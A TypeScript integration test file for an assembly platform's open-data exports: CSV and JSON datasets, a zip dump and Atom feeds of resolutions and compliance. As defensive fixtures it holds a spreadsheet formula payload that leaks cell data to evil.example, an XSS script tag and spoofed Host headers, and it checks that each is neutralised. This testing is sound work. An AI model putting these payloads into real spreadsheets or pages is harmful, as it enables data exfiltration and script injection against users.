import { appendLedgerEvent } from '#persistence';
import { parse } from 'csv-parse/sync';
import { strFromU8, unzipSync } from 'fflate';
import { createHash } from 'node:crypto';
import type { Response } from 'supertest';
import { DATASET_NAMES, DATASETS } from '../apps/api/src/open-data/open-data.columns.js';
import {
  admittedMotion,
  bearer,
  checkIn,
  debate,
  openSession,
  seatDelegatesInBulk,
} from './support/assembly.js';
import {
  seatDelegate,
  startTestApi,
  userWithRoles,
  type SeatedDelegate,
  type TestApi,
  type TestUser,
} from './support/test-api.js';

type Row = Record<string, unknown>;

/** Text a spreadsheet would evaluate, as a motion's title and as an imported delegate's name. */
const FORMULA_TITLE = '=HYPERLINK("https://evil.example/?d="&C2,"Ver anexo")';
const FORMULA_NAME = '=1+1';
/** What the CSV carries for a text cell: a leading `'` before a formula's first character. */
const asCsvText = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);

/** Collects a binary body (superagent only buffers text and JSON by itself). */
function binary(res: NodeJS.ReadableStream, done: (error: Error | null, body: Buffer) => void): void {
  const chunks: Buffer[] = [];
  res.on('data', (chunk: Buffer) => chunks.push(chunk));
  res.on('end', () => done(null, Buffer.concat(chunks)));
  res.on('error', (error: Error) => done(error, Buffer.alloc(0)));
}

/**
 * A minimal XML well-formedness check (no XML parser among the dependencies): one root, every tag
 * closed in order, attributes quoted, no stray `<` or bare `&` in text. Returns the element names seen.
 */
function wellFormedElements(xml: string): string[] {
  const body = xml.replace(/^<\?xml [^?]*\?>\s*/, '').replace(/<!\[CDATA\[[\s\S]*?\]\]>/g, (cdata) => {
    expect(cdata.slice(9, -3)).not.toContain(']]>');
    return '';
  });
  const stack: string[] = [];
  const seen: string[] = [];
  let roots = 0;
  let last = 0;
  const tagPattern = /<[^>]*>/g;
  const checkText = (text: string) => {
    expect(text).not.toMatch(/</);
    expect(text.replace(/&(amp|lt|gt|quot|apos|#\d+|#x[0-9a-fA-F]+);/g, '')).not.toContain('&');
  };
  for (const match of body.matchAll(tagPattern)) {
    checkText(body.slice(last, match.index));
    last = match.index + match[0].length;
    const tag = match[0];
    const close = /^<\/([A-Za-z_][\w:.-]*)\s*>$/.exec(tag);
    if (close) {
      expect(stack.pop()).toBe(close[1]);
      continue;
    }
    const open = /^<([A-Za-z_][\w:.-]*)((?:\s+[A-Za-z_][\w:.-]*="[^"<]*")*)\s*(\/?)>$/.exec(tag);
    expect(open).not.toBeNull();
    if (stack.length === 0) roots += 1;
    seen.push(open![1]!);
    if (!open![3]) stack.push(open![1]!);
  }
  checkText(body.slice(last));
  expect(stack).toEqual([]);
  expect(roots).toBe(1);
  return seen;
}

const entries = (xml: string) => [...xml.matchAll(/<entry>([\s\S]*?)<\/entry>/g)].map((m) => m[1]!);
const cdataOf = (entry: string, element: string) =>
  new RegExp(`<${element}[^>]*><!\\[CDATA\\[([\\s\\S]*?)\\]\\]></${element}>`).exec(entry)?.[1];

describe('Open data: datasets, the complete dump and the Atom feeds', () => {
  let api: TestApi;
  let moderator: TestUser;
  let author: SeatedDelegate;
  let delegates: SeatedDelegate[];
  let sessionId: string;
  let adoptedVote: string;
  let rejectedVote: string;
  let openVote: string;
  /** Links are built on PUBLIC_URL; the requests below claim another host, which must not matter. */
  const publicUrl = 'https://asamblea.example.pe';
  const claimed = { Host: 'evil.example', 'X-Forwarded-Host': 'evil.example', 'X-Forwarded-Proto': 'http' };

  const cast = (delegate: TestUser, voteId: string, choice: 'yes' | 'no' | 'abstain') =>
    api.http().post(`/api/votes/${voteId}/ballots`).set(bearer(delegate)).send({ choice }).expect(200);

  async function voteOn(motionId: string, choices: [SeatedDelegate, 'yes' | 'no' | 'abstain'][]) {
    await debate(api, moderator, sessionId, motionId);
    const opened = await api
      .http()
      .post(`/api/sessions/${sessionId}/votes`)
      .set(bearer(moderator))
      .send({ rule: 'simple' })
      .expect(201);
    for (const [delegate, choice] of choices) await cast(delegate, opened.body.id, choice);
    return opened.body.id as string;
  }

  const json = async (name: string) => (await api.http().get(`/api/open-data/${name}.json`).expect(200)).body;
  const csv = async (name: string) => {
    const res = await api.http().get(`/api/open-data/${name}.csv`).expect(200);
    return { res, rows: parse(res.text, { columns: true }) as Record<string, string>[] };
  };

  beforeAll(async () => {
    api = await startTestApi({ COSPONSOR_THRESHOLD: '0', PUBLIC_URL: `${publicUrl}/`, TRUST_PROXY: 'true' });
    moderator = await userWithRoles(api, ['moderator']);
    author = await seatDelegate(api, { fullName: 'Ñusta Quispe Huamán', constituencyCode: '0603' });
    delegates = await seatDelegatesInBulk(api, 6);
    sessionId = await openSession(api, moderator, 'Sesión ordinaria: salud en Celendín y Jaén');
    // 7 seats, 6 checked in; delegates[5] never comes.
    await checkIn(api, sessionId, [author, ...delegates.slice(0, 5)]);

    const adopted = await admittedMotion(api, author, moderator, {
      title: 'Ambulancias para Celendín',
      body: 'Artículo 1. Adquirir "dos" ambulancias, con equipo de reanimación.\nArtículo 2. Informar; cada trimestre.',
      institutionCodes: ['DIRESA'],
      complianceDeadline: '2027-06-30',
    });
    adoptedVote = await voteOn(adopted.id, [
      [author, 'yes'],
      [delegates[0]!, 'yes'],
      [delegates[1]!, 'yes'],
      [delegates[2]!, 'no'],
      [delegates[3]!, 'abstain'],
    ]);
    const closed = await api
      .http()
      .post(`/api/votes/${adoptedVote}/close`)
      .set(bearer(moderator))
      .expect(200);
    expect(closed.body.resolutionNumber).toBe('RES-APR-2026-0001');

    const rejected = await admittedMotion(api, delegates[0]!, moderator, {
      title: 'Cierre del puesto de salud de Sócota',
    });
    rejectedVote = await voteOn(rejected.id, [
      [author, 'no'],
      [delegates[0]!, 'yes'],
      [delegates[1]!, 'no'],
      [delegates[2]!, 'no'],
    ]);
    await api.http().post(`/api/votes/${rejectedVote}/close`).set(bearer(moderator)).expect(200);

    // Still open at the end: its ballots are secret.
    const pending = await admittedMotion(api, delegates[1]!, moderator, {
      title: 'Internet en las escuelas rurales de Chota',
    });
    openVote = await voteOn(pending.id, [
      [delegates[0]!, 'no'],
      [delegates[4]!, 'yes'],
    ]);

    // Formula-looking text (filed, so public; the name as an import could have written it).
    await admittedMotion(api, delegates[2]!, moderator, { title: FORMULA_TITLE });
    await api.dataSource.query('UPDATE delegates SET full_name = $1 WHERE id = $2', [
      FORMULA_NAME,
      delegates[2]!.delegateId,
    ]);

    // A draft is never public.
    await api
      .http()
      .post('/api/motions')
      .set(bearer(author))
      .send({
        title: 'Borrador que nadie debe ver',
        body: 'Texto del borrador.',
        objectiveCodes: ['SOC-SALUD-O4'],
      })
      .expect(201);

    // The deadline passed unfulfilled (as the daily sweep would record it).
    await api.dataSource.query(
      `INSERT INTO compliance (resolution_id, institution_id, status, progress, deadline)
       SELECT resolution_id, institution_id, 'overdue', 20, '2026-01-31' FROM resolution_institutions
       ON CONFLICT (resolution_id, institution_id)
       DO UPDATE SET status = 'overdue', progress = 20, deadline = '2026-01-31', updated_at = now()`,
    );
    await api.dataSource.transaction(async (m) => {
      await appendLedgerEvent(m, {
        type: 'compliance.reported',
        actor: null,
        payload: {
          resolutionNumber: 'RES-APR-2026-0001',
          institutionCode: 'DIRESA',
          status: 'in_progress',
          progress: 20,
          body: 'Se licitó una ambulancia <script>alert(1)</script> & se espera la segunda.',
          evidence: [],
        },
      });
      await appendLedgerEvent(m, {
        type: 'compliance.overdue',
        actor: null,
        payload: {
          resolutionNumber: 'RES-APR-2026-0001',
          institutionCode: 'DIRESA',
          status: 'overdue',
          progress: 20,
          deadline: '2026-01-31',
        },
      });
    });
  });
  afterAll(() => api.close());

  it('publishes a catalogue that describes every column in Spanish and English', async () => {
    const res = await api.http().get('/api/open-data').expect(200);
    expect(res.body.datasets.map((d: { name: string }) => d.name)).toEqual([...DATASET_NAMES]);
    expect(res.body.dump.href).toBe('/api/open-data/dump.zip');
    expect(res.body.feeds.resolutions.href).toBe('/api/feeds/resolutions.atom');
    for (const dataset of res.body.datasets) {
      expect(dataset.csv).toBe(`/api/open-data/${dataset.name}.csv`);
      expect(dataset.json).toBe(`/api/open-data/${dataset.name}.json`);
      expect(dataset.columns.map((c: { name: string }) => c.name)).toEqual(
        DATASETS[dataset.name as keyof typeof DATASETS].columns.map((c) => c.name),
      );
      expect(new Set(dataset.columns.map((c: { name: string }) => c.name)).size).toBe(dataset.columns.length);
      for (const column of dataset.columns) {
        expect(column.description.es.length).toBeGreaterThan(3);
        expect(column.description.en.length).toBeGreaterThan(3);
      }
    }
  });

  it('serves each dataset as RFC 4180 CSV and as JSON with the same rows', async () => {
    for (const name of DATASET_NAMES) {
      const document = await json(name);
      const { res, rows } = await csv(name);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toBe(`attachment; filename="asamblea-${name}.csv"`);
      expect(res.text.charCodeAt(0)).not.toBe(0xfeff);
      expect(res.text.split('\r\n')[0]).toBe(DATASETS[name].columns.map((c) => c.name).join(','));
      expect(document).toMatchObject({ dataset: name, count: rows.length });
      expect(document.rows).toHaveLength(rows.length);
      for (const [i, row] of document.rows.entries()) {
        expect(Object.keys(row)).toEqual(DATASETS[name].columns.map((c) => c.name));
        for (const column of DATASETS[name].columns) {
          const value = row[column.name];
          const cell = rows[i]![column.name];
          const text = value === null ? '' : Array.isArray(value) ? value.join(';') : String(value);
          expect(cell).toBe(column.type === 'integer' ? text : asCsvText(text));
        }
      }
    }
  });

  it('publishes filed motions, votes, closed ballots only, resolutions, compliance and attendance', async () => {
    const motions = await json('motions');
    expect(motions.rows.map((m: Row) => m.title)).toEqual([
      'Ambulancias para Celendín',
      'Cierre del puesto de salud de Sócota',
      'Internet en las escuelas rurales de Chota',
      FORMULA_TITLE,
    ]);
    const listed = await api.http().get('/api/motions').expect(200);
    expect(motions.count).toBe(listed.body.items.length);
    expect(motions.rows[0]).toMatchObject({
      number: 'MOC-2026-0001',
      kind: 'motion',
      status: 'adopted',
      author_name: 'Ñusta Quispe Huamán',
      author_constituency: 'Celendín',
      objectives: ['SOC-SALUD-O4'],
      institutions: ['DIRESA'],
      compliance_deadline: '2027-06-30',
    });

    const votes = await json('votes');
    expect(votes.rows.map((v: Row) => [v.id, v.status, v.outcome])).toEqual([
      [adoptedVote, 'closed', 'adopted'],
      [rejectedVote, 'closed', 'rejected'],
      [openVote, 'open', null],
    ]);
    expect(votes.rows[0]).toMatchObject({
      yes_count: 3,
      no_count: 1,
      abstain_count: 1,
      not_voted_count: 1,
      entitled_count: 6,
      resolution_number: 'RES-APR-2026-0001',
    });
    expect(votes.rows[2]).toMatchObject({ yes_count: null, required_yes: null, resolution_number: null });

    // Ballots of the open vote are secret until it closes.
    const ballots = await json('ballots');
    expect(ballots.count).toBe(5 + 4);
    expect(ballots.rows.some((b: Row) => b.vote_id === openVote)).toBe(false);
    const { rows: ballotCsv } = await csv('ballots');
    expect(ballotCsv.filter((b) => b.vote_id === openVote)).toEqual([]);
    const closedVote = await api.http().get(`/api/votes/${adoptedVote}`).expect(200);
    expect(ballots.rows.filter((b: Row) => b.vote_id === adoptedVote)).toHaveLength(
      closedVote.body.ballots.length,
    );
    expect(
      ballots.rows.find((b: Row) => b.delegate_id === author.delegateId && b.vote_id === adoptedVote),
    ).toMatchObject({
      choice: 'yes',
      delegate_name: 'Ñusta Quispe Huamán',
      delegate_constituency: 'Celendín',
      revision: 1,
    });

    const resolutions = await json('resolutions');
    const apiResolutions = await api.http().get('/api/resolutions').expect(200);
    expect(resolutions.count).toBe(apiResolutions.body.items.length);
    expect(resolutions.rows).toEqual([
      expect.objectContaining({
        number: 'RES-APR-2026-0001',
        title: 'Ambulancias para Celendín',
        objectives: ['SOC-SALUD-O4'],
        institutions: ['DIRESA'],
        vote_id: adoptedVote,
        digest: apiResolutions.body.items[0].digest,
      }),
    ]);
    const { rows: resolutionCsv } = await csv('resolutions');
    expect(resolutionCsv[0]).toMatchObject({ objectives: 'SOC-SALUD-O4', institutions: 'DIRESA' });
    // Quotes, commas, semicolons and the line break of the body survive the CSV round trip.
    expect(resolutionCsv[0]!.body).toBe(resolutions.rows[0].body);
    expect(resolutionCsv[0]!.body).toContain('"dos" ambulancias, con equipo de reanimación.\nArtículo 2.');

    const { res: complianceRes, rows: compliance } = await csv('compliance');
    expect(compliance).toEqual([
      expect.objectContaining({
        resolution_number: 'RES-APR-2026-0001',
        institution_code: 'DIRESA',
        institution_name: 'Dirección Regional de Salud Cajamarca',
        status: 'overdue',
        progress: '20',
        deadline: '2026-01-31',
        fulfilled_at: '',
      }),
    ]);
    expect(complianceRes.text).toContain(',overdue,');

    const attendance = await json('attendance');
    expect(attendance.count).toBe(6);
    expect(attendance.rows.every((a: Row) => a.session_id === sessionId && a.present === true)).toBe(true);
    const { res: attendanceRes } = await csv('attendance');
    expect(attendanceRes.text).toContain('Ñusta Quispe Huamán');
    expect(attendanceRes.text).toContain('Sesión ordinaria: salud en Celendín y Jaén');
  });

  it('writes formula-looking text as text in every CSV, and unchanged in the JSON', async () => {
    const { res: motionsRes, rows: motionRows } = await csv('motions');
    expect(motionRows.map((m) => m.title)).toContain(`'${FORMULA_TITLE}`);
    expect(motionRows.find((m) => m.title === `'${FORMULA_TITLE}`)).toMatchObject({
      author_name: `'${FORMULA_NAME}`,
    });
    // No cell of any CSV starts with a formula character.
    for (const name of DATASET_NAMES) {
      const { rows } = await csv(name);
      for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r]/);
    }
    expect(motionsRes.text).not.toMatch(/(^|,|\r\n)"?=HYPERLINK/);
    const { rows: ballotRows } = await csv('ballots');
    const named = ballotRows.filter((b) => b.delegate_id === delegates[2]!.delegateId);
    expect(named.length).toBe(2);
    expect(named.every((b) => b.delegate_name === `'${FORMULA_NAME}`)).toBe(true);
    const { rows: attendanceRows } = await csv('attendance');
    expect(attendanceRows.find((a) => a.delegate_id === delegates[2]!.delegateId)).toMatchObject({
      delegate_name: `'${FORMULA_NAME}`,
    });
    const motions = await json('motions');
    expect(motions.rows.find((m: Row) => m.title === FORMULA_TITLE)).toMatchObject({
      author_name: FORMULA_NAME,
    });
  });

  it('zips every dataset from one snapshot with a README of every field and a manifest', async () => {
    const res = await api
      .http()
      .get('/api/open-data/dump.zip')
      .buffer(true)
      .parse(binary as never)
      .expect(200);
    expect(res.headers['content-type']).toBe('application/zip');
    expect(res.headers['content-disposition']).toMatch(
      /^attachment; filename="asamblea-datos-abiertos-\d{8}-\d{6}\.zip"$/,
    );
    const files = unzipSync(new Uint8Array(res.body as Buffer));
    expect(Object.keys(files).sort()).toEqual(
      ['README.md', 'manifest.json', ...DATASET_NAMES.flatMap((n) => [`${n}.csv`, `${n}.json`])].sort(),
    );
    const manifest = JSON.parse(strFromU8(files['manifest.json']!));
    expect(manifest.datasets.map((d: { name: string }) => d.name)).toEqual([...DATASET_NAMES]);
    // Markdown escapes (`\<año\>`) aside, the README says what the catalogue says.
    const readme = strFromU8(files['README.md']!).replace(/\\([|<>])/g, '$1');
    for (const name of DATASET_NAMES) {
      const entry = manifest.datasets.find((d: { name: string }) => d.name === name);
      const text = strFromU8(files[`${name}.csv`]!);
      const rows = parse(text, { columns: true }) as Row[];
      const document = JSON.parse(strFromU8(files[`${name}.json`]!));
      const live = await json(name);
      expect({ name, csv: rows.length, json: document.count, manifest: entry.rows }).toEqual({
        name,
        csv: live.count,
        json: live.count,
        manifest: live.count,
      });
      expect(document.rows).toEqual(live.rows);
      expect(document.generatedAt).toBe(manifest.generatedAt);
      const sha = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex');
      expect(entry.sha256).toEqual({ csv: sha(files[`${name}.csv`]!), json: sha(files[`${name}.json`]!) });
      expect(readme).toContain(`\`${name}.csv\``);
      for (const column of DATASETS[name].columns) {
        expect(readme).toContain(`| \`${column.name}\` |`);
        expect(readme).toContain(` | ${column.description.es} | ${column.description.en} |`);
      }
    }
    const compliance = parse(strFromU8(files['compliance.csv']!), { columns: true }) as Row[];
    expect(compliance[0]).toMatchObject({ status: 'overdue' });
    expect(strFromU8(files['attendance.csv']!)).toContain('Ñusta Quispe Huamán');
    expect(strFromU8(files['ballots.csv']!)).not.toContain(openVote);
    // Formulas are text in the dump's CSVs too, and its README says so.
    const dumpMotions = parse(strFromU8(files['motions.csv']!), { columns: true }) as Row[];
    expect(dumpMotions.map((m) => m.title)).toContain(`'${FORMULA_TITLE}`);
    for (const name of ['ballots', 'attendance']) {
      const named = (parse(strFromU8(files[`${name}.csv`]!), { columns: true }) as Row[]).filter(
        (r) => r.delegate_id === delegates[2]!.delegateId,
      );
      expect(named.length).toBeGreaterThan(0);
      expect(named.every((r) => r.delegate_name === `'${FORMULA_NAME}`)).toBe(true);
    }
    expect(readme).toContain("prefixed with an apostrophe `'`");
  });

  it('publishes well-formed Atom feeds of resolutions and of compliance changes', async () => {
    const res = await api.http().get('/api/feeds/resolutions.atom').set(claimed).expect(200);
    expect(res.headers['content-type']).toBe('application/atom+xml; charset=utf-8');
    const xml = res.text;
    expect(wellFormedElements(xml)[0]).toBe('feed');
    expect(xml).toContain('<feed xmlns="http://www.w3.org/2005/Atom">');
    expect(xml).toContain(`<link rel="self" href="${publicUrl}/api/feeds/resolutions.atom"/>`);
    expect(xml).not.toContain('evil.example');
    const [resolution, ...others] = entries(xml);
    expect(others).toEqual([]);
    expect(cdataOf(resolution!, 'title')).toBe('RES-APR-2026-0001 · Ambulancias para Celendín');
    expect(resolution).toContain(`<link href="${publicUrl}/api/resolutions/RES-APR-2026-0001"/>`);
    expect(resolution).toContain(
      '<id>tag:asamblea.example.pe,2026:asamblea/resolution/RES-APR-2026-0001</id>',
    );
    const summary = cdataOf(resolution!, 'summary')!;
    expect(summary).toContain('SOC-SALUD-O4');
    expect(summary).toContain('DIRESA');
    expect(summary).toContain((await json('resolutions')).rows[0].digest);
    // Ids and the feed's own date are stable from one request to the next.
    const again = await api.http().get('/api/feeds/resolutions.atom').set(claimed).expect(200);
    expect(again.text).toBe(xml);

    const compliance = await api.http().get('/api/feeds/compliance.atom').set(claimed).expect(200);
    expect(compliance.headers['content-type']).toBe('application/atom+xml; charset=utf-8');
    wellFormedElements(compliance.text);
    const [overdue, reported, ...rest] = entries(compliance.text);
    expect(rest).toEqual([]);
    expect(cdataOf(overdue!, 'title')).toBe('RES-APR-2026-0001 · DIRESA · vencido (overdue)');
    expect(overdue).toContain('<category term="overdue"/>');
    expect(cdataOf(overdue!, 'summary')).toContain('2026-01-31');
    expect(overdue).toContain(`<link href="${publicUrl}/api/resolutions/RES-APR-2026-0001/compliance"/>`);
    expect(overdue).toMatch(/<id>tag:asamblea\.example\.pe,2026:asamblea\/ledger\/\d+<\/id>/);
    expect(compliance.text).not.toContain('evil.example');
    expect(cdataOf(reported!, 'title')).toBe('RES-APR-2026-0001 · DIRESA · en ejecución (in_progress)');
    // The report's text is escaped HTML, never markup.
    const reportSummary = cdataOf(reported!, 'summary')!;
    expect(reportSummary).toContain('&lt;script&gt;alert(1)&lt;/script&gt; &amp; se espera');
    expect(reportSummary).not.toContain('<script>');
  });

  it('answers unknown datasets and other methods with a 404, never a 5xx', async () => {
    for (const path of [
      '/api/open-data/delegates.csv',
      '/api/open-data/motions.xml',
      '/api/open-data/motions',
      '/api/open-data/MOTIONS.csv',
      '/api/open-data/dump.tar',
      '/api/feeds/other.atom',
    ]) {
      const res = await api.http().get(path).expect(404);
      expect(res.body).toMatchObject({ statusCode: 404, code: 'ROUTE_NOT_FOUND' });
    }
    for (const path of [
      '/api/open-data',
      '/api/open-data/motions.csv',
      '/api/open-data/dump.zip',
      '/api/feeds/resolutions.atom',
    ]) {
      const res: Response = await api.http().post(path).send({});
      expect([404, 405]).toContain(res.status);
      expect(res.body.code).toBe('ROUTE_NOT_FOUND');
    }
    const res = await api.http().delete('/api/open-data/compliance.json');
    expect([404, 405]).toContain(res.status);
  });
});
